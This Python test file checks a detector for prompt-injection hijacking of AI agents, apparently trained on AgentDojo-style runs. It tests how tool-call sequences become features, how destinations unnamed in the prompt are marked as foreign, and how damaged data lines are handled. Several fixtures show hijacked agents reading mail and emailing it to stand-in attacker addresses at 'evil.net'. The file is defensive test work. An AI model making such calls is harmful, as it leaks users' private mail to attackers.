"""Tool calls: chains, acts, foreign places, and what must never be a feature."""

import json

import pytest

from classifier.lab.real import agent_runs, agents
from classifier.lab.real.agent_runs import Knowledge, chains
from classifier.lab.real.table import DataError, number
from tests.lab.real.tiny import agent_runs as made
from tests.lab.real.tiny import run


def runs(tmp_path, *shaped):
    path = tmp_path / "r.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in shaped))
    return agent_runs.read(path)


def test_chains_begin_at_the_start():
    assert chains(("a", "b"), 2) == [("^", "a"), ("a", "b")] and chains((), 3) == []


def test_a_place_that_the_prompt_names_is_not_foreign(tmp_path):
    known, own, thief = runs(
        tmp_path,
        run("s", "1", "benign", [("send_email", {"to": ["x@known.org"]})]),
        run("s", "2", "benign", [("send_email", {"to": "A@B.org"}), ("send_email", {"to": "x@known.org"})]),
        run("s", "3", "hijacked", [("get_mail", {"to": "thief@evil.net"}), ("send_email", {"to": "thief@evil.net"})]),
    )
    k = Knowledge([known])
    assert [k.foreign(own, c) for c in own.calls] == [False, False]
    assert [k.foreign(thief, c) for c in thief.calls] == [False, True]  # reading somebody's mail sends nothing


def test_who_wanted_a_call_is_no_feature(tmp_path):
    calls = [("get_order", {}), ("send_email", {"to": "t@evil.net"})]
    one, other = run("s", "1", "hijacked", calls), run("s", "1", "hijacked", calls)
    for call in other["calls"]:
        call |= {"origin": "injection", "result_tainted": True}
    a, b = runs(tmp_path, one, other)
    k = Knowledge([])
    assert all(score(a, k, []) == score(b, k, []) for _, score in agents.METHODS.values())
    assert agents.after_taint(a, k, []) < agents.after_taint(b, k, [])


def test_the_tables_say_that_the_sensor_tells_no_tool_calls(tmp_path):
    report = agents.evaluate(made(tmp_path))
    first, second = report.tables
    assert number(next(r for r in first.rows if r.method == agents.HEADLINE).figures["AUC"]) == 1.0
    assert "does not deliver tool calls yet" in report.keeps and len(second.rows) == 3


@pytest.mark.parametrize(
    "line", ["{", "[]", '{"label": 1}', '{"calls": 3, "label": "x", "prompt": "", "user_task": 1}']
)
def test_a_damaged_line_is_named(tmp_path, line):
    made(tmp_path)
    with (tmp_path / "agentdojo_benign.jsonl").open("a") as file:
        file.write(line + "\n")
    with pytest.raises(DataError, match="line 5"):
        agents.evaluate(tmp_path)


def test_without_hijacked_runs_nothing_can_be_said(tmp_path):
    made(tmp_path)
    (tmp_path / "agentdojo_hijacked.jsonl").unlink()
    with pytest.raises(DataError, match="add the files"):
        agents.evaluate(tmp_path)
